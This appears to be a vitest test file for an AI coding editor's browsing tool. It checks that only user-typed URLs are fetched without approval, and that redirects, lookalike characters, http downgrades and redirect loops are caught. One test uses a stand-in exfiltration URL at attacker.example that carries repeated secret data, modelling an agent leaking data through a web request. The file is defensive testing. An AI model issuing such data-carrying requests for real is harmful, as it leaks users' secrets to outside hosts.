import { describe, expect, test } from "vitest";
import type { ApprovalRequest } from "../../../../src/tools/gate/approvals.ts";
import {
	allow,
	createToolBench,
	type Decision,
	type ToolBench,
} from "../../../helpers/toolBench.ts";

const forChat: Decision = ({ fingerprint }) => ({ type: "allow", fingerprint, scope: "chat" });

const typed = "https://docs.example/guide?page=2";

async function browsing(): Promise<ToolBench> {
	const bench = await createToolBench();
	bench.mayBrowse = true;
	bench.gate.noteTyped("chat", [typed, "http://plain.example/"]);
	return bench;
}

const visit = (bench: ToolBench, url: string): ReturnType<ToolBench["run"]> =>
	bench.run("browsing", { url });
const visited = ({ editor }: ToolBench): string[] =>
	editor.effects.filter(effect => effect.startsWith("visit "));

describe("T36: a web page", () => {
	test.each([
		typed,
		`${typed}#part`,
		"https://DOCS.example:443/guide?page=2",
		"http://plain.example",
	])("%s is read without a question, as the user typed it", async url => {
		const bench = await browsing();
		expect(await visit(bench, url)).toMatchObject({ state: "done" });
		expect(bench.asked).toEqual([]);
		expect(visited(bench)).toHaveLength(1);
	});

	test("whose address is any other is asked about with all of it, before anything is sent", async () => {
		const bench = await browsing();
		const url = `https://attacker.example/collect?d=${"secret".repeat(200)}`;
		expect(await visit(bench, url)).toMatchObject({ state: "denied" });
		expect(bench.asked).toMatchObject([
			{ address: url, canRemember: false, tool: { name: "browsing" } },
		]);
		expect(bench.asked[0]?.warnings.join()).toContain("attacker.example");
		expect(visited(bench)).toEqual([]);
		bench.decide = allow;
		expect(await visit(bench, url)).toMatchObject({ state: "done" });
		expect(visited(bench)).toEqual([`visit ${url}`]);
	});

	test("typed in another chat is asked about in this one", async () => {
		const bench = await browsing();
		bench.gate.noteTyped("another", ["https://other.example/"]);
		expect(await visit(bench, "https://other.example/")).toMatchObject({ state: "denied" });
	});

	test("is asked about by its address in ASCII, which shows letters that look like others and hides no direction", async () => {
		const bench = await browsing();
		await visit(bench, "https://\u0430pple.example/\u202Egnp");
		expect(bench.asked[0]?.address).toBe("https://xn--pple-43d.example/%E2%80%AEgnp");
	});

	test("leads nowhere by itself: each address it leads to is judged like the first", async () => {
		const bench = await browsing();
		const elsewhere = "https://elsewhere.example/?d=1";
		bench.editor.pages.set(typed, { to: elsewhere });
		expect(await visit(bench, typed)).toMatchObject({ state: "denied" });
		expect(bench.asked).toMatchObject([{ address: elsewhere }]);
		expect(bench.asked[0]?.warnings.join()).toContain("docs.example");
		expect(visited(bench)).toEqual([`visit ${typed}`]);
		bench.decide = allow;
		const { content } = await visit(bench, typed);
		expect(content).toBe(`Page\n${elsewhere}\n\nWord`);
	});

	test("that leads to another typed address is read there without a question", async () => {
		const bench = await browsing();
		bench.gate.noteTyped("chat", ["https://docs.example/new"]);
		bench.editor.pages.set(typed, { to: "https://docs.example/new" });
		expect(await visit(bench, typed)).toMatchObject({ state: "done" });
		expect(bench.asked).toEqual([]);
	});

	test("that leads to plain http is not followed there", async () => {
		const bench = await browsing();
		bench.editor.pages.set(typed, { to: "http://docs.example/guide" });
		const { state, content } = await visit(bench, typed);
		expect([state, content]).toEqual(["failed", expect.stringContaining("Only https")]);
		expect(visited(bench)).toHaveLength(1);
	});

	test("that leads on without an end is given up after five more", async () => {
		const bench = await browsing();
		bench.decide = allow;
		bench.editor.pages.set(typed, { to: "https://loop.example/" });
		bench.editor.pages.set("https://loop.example/", { to: "https://loop.example/" });
		expect((await visit(bench, typed)).content).toContain("leads on more than 5 times");
		expect(visited(bench)).toHaveLength(6);
	});

	test("allowed in the chat stays so for exactly its address without a query", async () => {
		const bench = await browsing();
		const asks = async (url: string): Promise<ApprovalRequest[]> => {
			const before = bench.asked.length;
			bench.decide = () => ({ type: "deny" });
			await visit(bench, url);
			return bench.asked.slice(before);
		};
		bench.decide = forChat;
		await visit(bench, "https://api.example/a");
		expect(bench.asked).toMatchObject([{ canRemember: true }]);
		expect(await asks("https://api.example/a")).toEqual([]);
		for (const other of ["/a?d=1", "/a/", "/b", "/A", "/a%3Fd=1"]) {
			expect(await asks(`https://api.example${other}`), other).toHaveLength(1);
		}
		expect(await asks("https://api.example:444/a")).toHaveLength(1);
		expect(await asks("https://api.example.org/a")).toHaveLength(1);
		bench.decide = forChat;
		await visit(bench, "https://api.example/q?d=1");
		expect(await asks("https://api.example/q?d=1")).toHaveLength(1);
		expect(await asks("https://api.example/q")).toHaveLength(1);
	});

	test("is neither offered nor read while Browsing is off, whoever typed its address", async () => {
		const bench = await browsing();
		bench.mayBrowse = false;
		expect(await visit(bench, typed)).toEqual({
			state: "refused",
			content: "Error: tools are off. The user switched Browsing off.",
		});
		expect(visited(bench)).toEqual([]);
		expect(bench.gate.offered(false).map(({ name }) => name)).not.toContain("browsing");
	});

	test("needs no workspace: it is offered and read where the editor's tools are off", async () => {
		const bench = await browsing();
		bench.offReason = "No folder is open.";
		expect(bench.gate.offered(true).map(({ name }) => name)).toEqual(["browsing"]);
		expect(await visit(bench, typed)).toMatchObject({ state: "done" });
		expect(await bench.run("read_file", { path: "a" })).toMatchObject({ state: "refused" });
	});
});
